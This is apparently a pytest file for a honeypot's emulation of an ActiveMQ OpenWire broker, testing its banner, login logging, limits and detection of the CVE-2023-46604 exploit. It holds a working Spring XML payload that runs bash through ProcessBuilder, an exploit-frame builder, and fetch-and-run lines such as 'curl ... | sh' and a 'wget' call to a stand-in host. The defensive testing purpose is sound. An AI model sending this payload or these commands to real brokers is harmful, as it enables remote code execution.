"""OpenWire: how the broker introduces itself, who logs in, and the exception that has an XML file loaded."""

from __future__ import annotations

import re
import struct

import pytest

from eudaemon.events.catalogue import CommandEntered, ExploitRecognised, LoginTried
from eudaemon.protocols._base import Claim, HalfClosed
from eudaemon.protocols.activemq import (
    COMMAND_BYTES_MAX,
    COMMAND_LINES_MAX,
    FETCHES_MAX,
    FRAME_BYTES_MAX,
    FRAMES_MAX,
    ActiveMq,
)
from eudaemon.testing.script import Table, visit
from eudaemon.world.host import Host
from eudaemon.world.seed import Seed

SPRING = "org.springframework.context.support.ClassPathXmlApplicationContext"
URL = "http://198.51.100.7:8080/poc.xml"
# As exploits serve it.
BEANS = b"""<?xml version="1.0" encoding="UTF-8" ?>
<beans xmlns="http://www.springframework.org/schema/beans">
  <bean id="pb" class="java.lang.ProcessBuilder" init-method="start">
    <constructor-arg><list><value>bash</value><value>-c</value>
      <value>%s</value></list></constructor-arg>
  </bean>
</beans>"""


def utf(text: str) -> bytes:
    return b"\1" + struct.pack(">H", len(text)) + text.encode()


def framed(content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + content


def exception(name: str, said: str) -> bytes:
    """As the public exploits write it: command 31, no response wanted, a throwable of this class and message."""
    return framed(bytes.fromhex("1f000000000000000000") + b"\1" + utf(name) + utf(said))


def talk(host: Host | None = None) -> Table:
    return Table(ActiveMq(visit(host=host, port=61616))).open()


def exploits(table: Table) -> list[ExploitRecognised]:
    return [fact for fact in table.facts if isinstance(fact, ExploitRecognised)]


def test_it_introduces_itself() -> None:
    sent = talk().sent
    assert int.from_bytes(sent[:4], "big") == len(sent) - 4
    assert sent[4:17] == b"\x01ActiveMQ\0\0\0\x0c"
    assert re.search(rb"\x0fProviderVersion\x09\0[\x05-\x07]5\.1[567]\.\d+\Z", sent)
    told = {talk(Host.from_seed(Seed(b"%d" % number))).sent for number in range(12)}
    assert len(told) == 12


@pytest.mark.parametrize("split", [0, 1])
@pytest.mark.parametrize(
    "value",
    [b"curl -s http://198.51.100.7/x | sh", b"<![CDATA[curl -s http://198.51.100.7/x | sh]]>",
     b"curl -s http:&#x2f;/198.51.100.7/x | sh"],
)  # fmt: skip
def test_an_exception_has_a_file_loaded_and_its_commands_run(value: bytes, split: int) -> None:
    table = talk()
    table.say(exception(SPRING, URL), split)
    assert [wish.download.url for wish in table.wishes] == [URL]
    table.answer("ok", BEANS % value)
    assert [wish.download.url for wish in table.wishes] == ["http://198.51.100.7/x"]
    assert exploits(table) == [ExploitRecognised("activemq-exception", "CVE-2023-46604", f"{SPRING} {URL}")]
    assert CommandEntered("curl -s http://198.51.100.7/x | sh") in table.facts
    table.answer("ok", b"#!/bin/sh\n")
    table.end()


def test_a_client_logs_in_and_is_answered() -> None:
    table = talk()
    introduced = table.sent
    connection = (
        b"\x03" + struct.pack(">I?", 7, True) + b"\1\x78" + utf("ID:a-1") + utf("a") + utf("secret") + utf("admin")
    )
    assert table.say(introduced + framed(connection)) == framed(b"\x1e" + bytes(5) + struct.pack(">I", 7))
    assert LoginTried("admin", "secret", accepted=True) in table.facts
    nobody = b"\x03" + struct.pack(">I?", 8, False) + b"\1\x78" + utf("ID:a-1") + b"\0\0\0"
    assert table.say(framed(nobody)) == b""
    assert table.say(framed(b"\x0a" + bytes(5))) == framed(b"\x0a" + bytes(5))
    assert table.say(framed(b"\x05" + struct.pack(">I?", 9, True))) == framed(b"\x1e" + bytes(5) + struct.pack(">I", 9))
    assert [fact.line for fact in table.facts if isinstance(fact, CommandEntered)] == ["ConnectionInfo", "ConsumerInfo"]
    table.say(framed(b"\x0b" + bytes(5)))
    assert table.over


def test_an_exception_that_is_one_is_no_exploit() -> None:
    table = talk()
    table.say(exception("java.io.IOException", "broken pipe"))
    assert not exploits(table)
    assert CommandEntered("ExceptionResponse java.io.IOException: broken pipe") in table.facts
    tight = b"\x1f" + bytes(12) + SPRING.encode() + b"\0\x20" + URL.encode()
    table.say(framed(tight))
    assert exploits(table)[0].command == f"{SPRING} {URL}"
    table.wishes.clear()
    table.say(exception("java.util.Whatever", "x"))
    assert [fact.command for fact in exploits(table)][1:] == ["java.util.Whatever x"]
    assert not table.wishes


def test_limits() -> None:
    table = talk()
    table.say(framed(b"\x05" + bytes(FRAME_BYTES_MAX - 1)))
    assert not table.over
    table.say(struct.pack(">I", FRAME_BYTES_MAX + 1))
    assert table.fault == f"a frame of {FRAME_BYTES_MAX + 1} bytes"
    table = talk()
    table.say(framed(b"\x01") * FRAMES_MAX)
    assert not table.over
    table.say(framed(b"\x01"))
    assert table.fault == f"more than {FRAMES_MAX} frames in one session"
    table = talk()
    for number in range(FETCHES_MAX + 1):
        table.say(exception(SPRING, f"{URL}{number}"))
    assert len(table.wishes) == FETCHES_MAX
    table.tell(HalfClosed(table.at_s))
    assert not table.over
    for _ in range(FETCHES_MAX):
        table.answer("failed")
    assert table.over


@pytest.mark.parametrize("past", [0, 1])
def test_commands_have_lines_and_a_length(past: int) -> None:
    table = talk()
    table.say(exception(SPRING, URL))
    table.answer("ok", BEANS % b"\n".join([b"id"] * (COMMAND_LINES_MAX + past)))
    assert table.facts.count(CommandEntered("id")) == COMMAND_LINES_MAX
    table = talk()
    table.say(exception(SPRING, URL))
    tail = b";wget http://198.51.100.7/xy"
    table.answer("ok", BEANS % (b"echo ".ljust(COMMAND_BYTES_MAX - len(tail) + past, b"a") + tail))
    assert [wish.download.url for wish in table.wishes] == ["http://198.51.100.7/x" + "y" * (not past)]


def test_whose_first_bytes_they_are() -> None:
    assert ActiveMq.claim(exception(SPRING, URL)) is Claim.YES
    assert ActiveMq.claim(talk().sent) is Claim.YES
    assert ActiveMq.claim(b"\0\0\0") is Claim.UNSURE
    assert ActiveMq.claim(b"GET / HTTP/1.1\r\n") is Claim.NO
